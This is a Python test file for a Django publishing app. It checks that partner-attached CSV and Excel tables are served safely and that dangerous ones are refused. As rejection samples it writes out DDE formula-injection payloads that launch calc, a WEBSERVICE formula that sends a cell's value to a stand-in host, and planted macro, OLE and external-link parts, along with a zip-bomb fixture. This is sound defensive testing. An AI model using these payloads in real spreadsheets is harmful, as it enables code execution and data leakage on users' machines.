"""Tables that partners attach: what readers get of them, and what is refused before anybody gets it."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook

from besa.core.refusing import Refused
from besa.pledges.documents import REASONS
from besa.pledges.models import Document
from besa.pledges.services.documents import keep_document, read_document
from besa.publications.models import Attachment
from besa.publications.outputs.content import content_of
from besa.publications.queries.manuscripts import published_manuscript
from besa.publications.queries.readiness import obstacles_of
from besa.publications.services.files import add_attachment
from tests.factories.people import browser_of
from tests.factories.publications import a_newsroom, an_edition, published
from tests.pledges.test_documents import zip_bomb

pytestmark = pytest.mark.django_db
CSV = "Komuna;Premtime;Ndryshimi\r\nPejë;12;-3,5 %\r\nPrizren;–;-\r\n".encode("cp1250")


@pytest.fixture(autouse=True)
def english() -> None:
    translation.activate("en")


def xlsx(*formulas: str, part: str = "", said: str = "x", without: str = "") -> bytes:
    """A workbook with a sum, and what else is planted in it."""
    book, out = Workbook(), io.BytesIO()
    for row in (
        ["Komuna", "Premtime"],
        ["Pejë", 12],
        ["Gjithsej", "=SUM(B2:B2)"],
        *([one] for one in formulas),
    ):
        book.worksheets[0].append(row)
    book.create_sheet("Tjetra").append(["=A1", *formulas])
    book.save(out)
    if part or without:
        with zipfile.ZipFile(io.BytesIO(out.getvalue())) as whole:
            parts = {name: whole.read(name) for name in whole.namelist() if name != without}
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as changed:
            for name, content in {**parts, **({part: said.encode()} if part else {})}.items():
                changed.writestr(name, content)
    return out.getvalue()


def relation(kind: str) -> str:
    """A part that points outwards."""
    office = "http://schemas.openxmlformats.org"
    return (
        f'<Relationships xmlns="{office}/package/2006/relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="{office}/officeDocument/2006/relationships/{kind}" Target="https://x.example/a.png"/></Relationships>'
    )


_RELS = "xl/drawings/_rels/drawing1.xml.rels"


@pytest.mark.parametrize(
    ("content", "form"),
    [(CSV, "CSV"), (xlsx(), "XLSX"), (xlsx(part=_RELS, said=relation("hyperlink")), "XLSX")],
)
def test_a_table_is_attached_by_form_and_readers_save_it_as_it_came(content: bytes, form: str) -> None:
    room = a_newsroom()
    edition = an_edition(room)
    place = reverse("publications:add_block", args=[edition.publication.slug, "sq", "file"])
    upload = SimpleUploadedFile("foto.jpg", content, "image/jpeg")
    browser_of(room.writer).post(place, {"title": "Të dhënat", "upload": upload})
    assert obstacles_of(edition), "nobody has looked through it yet"
    attached = Attachment.objects.get()
    read_document(document_id=attached.document_id)
    work = published_manuscript(published(room, edition))
    size = f"{form}, {max(1, round(len(content) / 1024))} KB"
    slug = edition.publication.slug
    page = Client().get(reverse("publications:publication", args=[slug])).content.decode()
    address = reverse("publications-data:file", args=[attached.uid])
    assert size in page and f'{address}">Të dhënat</a>' in page
    assert size in json.dumps(content_of(work), ensure_ascii=False)
    sent = Client().get(address)
    assert sent.getvalue() == content
    assert sent["Content-Type"].startswith({"CSV": "text/csv", "XLSX": "application/vnd.openxml"}[form])
    assert sent["X-Content-Type-Options"] == "nosniff"
    saved_as = f'attachment; filename="{attached.document.sha256[:16]}.{form.lower()}"'
    assert sent["Content-Disposition"] == saved_as


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b'a;b\r\n1;=HYPERLINK("https://x.example")\r\n', "formulas"),
        (b"a,b\r\n1,x;@SUM(1+1)*cmd|' /C calc'!A0\r\n", "formulas"),
        ("Një letër pa tabelë.\r\nFund.".encode(), "not_a_sheet"),
        (b"PK\x03\x04 no zip", "not_a_sheet"),
        (xlsx(without="xl/workbook.xml"), "not_a_sheet"),
        (xlsx(part="[Content_Types].xml", said="<Types/>"), "not_a_sheet"),
        (zip_bomb(), "bomb"),
        (xlsx('=WEBSERVICE("https://x.example/?"&A1)'), "reaches_out"),
        (xlsx("=cmd|'/C calc'!A0"), "reaches_out"),
        (xlsx(part="xl/vbaProject.bin"), "reaches_out"),
        (xlsx(part="xl/embeddings/oleObject1.bin"), "reaches_out"),
        (xlsx(part=_RELS, said=relation("image")), "reaches_out"),
    ],
)
def test_what_runs_or_fetches_or_is_no_table_never_becomes_public(content: bytes, reason: str) -> None:
    room = a_newsroom()
    attached = add_attachment(
        publication=an_edition(room).publication, file=io.BytesIO(content), by=room.writer
    )
    edition = an_edition(room, ("file", {"file": attached.uid, "title": "Të dhënat"}))
    edition.publication.attachments.add(attached)
    read_document(document_id=attached.document_id)
    document = Document.objects.get(pk=attached.document_id)
    assert document.refusal == reason
    assert str(REASONS[reason]) in [str(one.text) for one in obstacles_of(edition)]


def test_a_refusal_names_what_is_taken_and_pledges_take_no_tables() -> None:
    room = a_newsroom()
    publication = an_edition(room).publication
    for content, key in ((b"\x00\x01MZ", "not_for_readers"), (b"a,b\n" * 2_000_000, "table_too_large")):
        with pytest.raises(Refused) as refused:
            add_attachment(publication=publication, file=io.BytesIO(content), by=room.writer)
        assert str(refused.value) == str(REASONS[key])
    for content in (CSV, xlsx()):
        with pytest.raises(Refused, match="neither a PDF nor a photo"):
            keep_document(file=io.BytesIO(content), by=room.writer)
